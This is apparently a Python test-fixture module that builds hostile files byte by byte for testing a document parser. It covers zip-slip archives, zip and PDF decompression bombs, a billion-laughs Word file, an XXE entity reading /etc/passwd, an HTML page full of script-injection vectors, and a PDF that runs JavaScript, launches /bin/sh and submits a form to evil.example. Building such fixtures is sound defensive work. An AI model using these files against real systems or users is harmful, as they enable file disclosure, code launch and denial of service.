"""Files that mean harm, or that harm came to: each made here, byte by byte where no library would make it."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from tests.qa.documents import office

SECRET = "root:"  # what /etc/passwd begins with
BILLION_LAUGHS = '<!DOCTYPE l [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {after} "{f"&{before};" * 10}">' for before, after in zip("abcdefgh", "bcdefghi", strict=True)
)
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]%s>>"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def slipping(content: bytes) -> bytes:
    """An archive whose names lead out of any folder that it is unpacked to."""
    names = (
        "../../slip.txt",
        "/tmp/jushi-slip.txt",
        "a/../../../slip.txt",
        "C:\\slip.txt",
        "..\\..\\slip.txt",
        "a\0b.txt",
    )
    return office.archive(dict.fromkeys(names, content) | {"good.txt": content})


def nested(depth: int, content: bytes) -> bytes:
    """An archive in an archive in an archive, to that depth."""
    data, name = content, "good.txt"
    for level in range(depth):
        data, name = office.archive({name: data}), f"{level}.zip"
    return data


def overlapping(content: bytes) -> bytes:
    """An archive of a thousand names for the same packed bytes: small on the disk, large in the memory."""
    packed = office.archive({"good.txt": content * 400})
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        entry, start = archive.infolist()[0], archive.start_dir
    local = packed[:start]
    central = b"".join(_entry(entry, f"{number:04}.txt".encode()) for number in range(1_000))
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1_000, 1_000, len(central), len(local), 0)
    return local + central + end


def crowded() -> bytes:
    """An archive whose list names a quarter of a million files that are not there."""
    central = _entry(zipfile.ZipInfo(), b"a.txt") * 250_000
    return b"PK\3\4" + central + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 9, 9, len(central), 4, 0)


def _entry(entry: zipfile.ZipInfo, name: bytes) -> bytes:
    sizes = (getattr(entry, "CRC", 0), entry.compress_size, entry.file_size)
    head = (b"PK\1\2", 20, 20, 0, entry.compress_type, 0, 0x21)
    return struct.pack("<4s6H3L5H2L", *head, *sizes, len(name), 0, 0, 0, 0, 0, 0) + name


def entities(text: str) -> bytes:
    """A Word file whose XML grows a billionfold."""
    body = f"{BILLION_LAUGHS}]>{_word(f'{text}&i;')}"
    return replaced(office.word([text]), "word/document.xml", body.encode())


def outside(text: str) -> bytes:
    """A Word file that asks its reader for a file of the reader's machine."""
    head = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = (
        f"{head}<w:document xmlns:w='{_WORD}'><w:body><w:p><w:r><w:t>{text}&x;</w:t></w:r></w:p></w:body></w:document>"
    )
    return replaced(office.word([text]), "word/document.xml", body.encode())


def _word(text: str) -> str:
    return f"<w:document xmlns:w='{_WORD}'><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def scripted_page(text: str) -> bytes:
    """A page whose every corner runs something."""
    return (
        "<!DOCTYPE html><html><head><title>报告</title><script>alert('脚本甲')</script>"
        "<style>body{background:url('javascript:脚本乙')}</style><base href='https://evil.example/'></head>"
        f"<body onload='脚本丙()'><article><p>{text}</p><p onclick=\"steal('脚本丁')\">{text}</p>"
        "<img src=x onerror='脚本戊()'><iframe src='file:///etc/passwd'></iframe><svg><script>脚本己</script></svg>"
        "<a href='javascript:脚本庚()'>链接</a></article></body></html>"
    ).encode()


def deep_page(text: str, depth: int = 20_000) -> bytes:
    """A page of boxes in boxes in boxes."""
    return f"<html><body>{'<div>' * depth}<p>{text}</p>{'</div>' * depth}</body></html>".encode()


def scripted_pdf(text: str) -> bytes:
    """A PDF that runs a script when it is opened, sends a form and starts a program."""
    stream = _content(text)
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 6 0 R>>/Names<</JavaScript 7 0 R>>>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: _PAGE % b"/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>/AA<</O 8 0 R>>",
            4: stream,
            5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            6: b"<</S/JavaScript/JS(while(true){app.alert('x')})>>",
            7: b"<</Names[(a) 6 0 R]>>",
            8: b"<</S/Launch/F(/bin/sh)/Next<</S/SubmitForm/F(http://evil.example)>>>>",
        }
    )


def endless_pages() -> bytes:
    """A PDF whose page tree is its own child."""
    return pdf(
        {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2000000/Parent 2 0 R>>"}
    )


def endless_drawing(text: str) -> bytes:
    """A PDF with a drawing that draws itself, twice, and a length that is a reference to itself."""
    own = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 12>>"
    form = own + b"stream\n/X Do /X Do \nendstream"
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: _PAGE % b"/Contents[4 0 R 7 0 R]/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>",
            4: _content(text, more="/X Do "),
            5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
            6: form,
            7: b"<</Length 7 0 R>>stream\nBT ET\nendstream",
        }
    )


def endless_table() -> bytes:
    """A PDF whose table of objects says that the table before it is itself."""
    data = pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 0>>"})
    at = data.rindex(b"startxref\n") + len(b"startxref\n")
    start = data[at:].split(b"\n")[0]
    return data.replace(b"trailer<<", b"trailer<</Prev " + start + b" ")


def bomb_pdf() -> bytes:
    """A PDF whose one page unpacks to two hundred megabytes."""
    packed = zlib.compress(zlib.compress(b"BT /F1 9 Tf (A) Tj ET " * 10_000_000, 9), 9)
    stream = b"<</Length %d/Filter[/FlateDecode/FlateDecode]>>stream\n%s\nendstream" % (len(packed), packed)
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: _PAGE % b"/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>",
            4: stream,
            5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        }
    )


def huge_picture() -> bytes:
    """A PNG of sixty thousand by sixty thousand dots, all of them white, in a few bytes."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        body = kind + content
        return struct.pack(">L", len(content)) + body + struct.pack(">L", zlib.crc32(body))

    head = struct.pack(">2L5B", 60_000, 60_000, 1, 0, 0, 0, 0)
    rows = zlib.compress(b"\xff" * 100_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF of these objects, whatever they say."""
    data, places = b"%PDF-1.7\n", []
    for number, content in objects.items():
        places.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    return (
        data
        + head
        + table
        + b"trailer<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(data))
    )


def _content(text: str, more: str = "") -> bytes:
    drawn = f"BT /F1 12 Tf 20 100 Td ({text}) Tj ET {more}".encode()
    return b"<</Length %d>>stream\n%s\nendstream" % (len(drawn), drawn)


def replaced(data: bytes, name: str, content: bytes) -> bytes:
    """The archive with one of its files replaced."""
    with zipfile.ZipFile(io.BytesIO(data)) as packed:
        return office.archive({inner: content if inner == name else packed.read(inner) for inner in packed.namelist()})
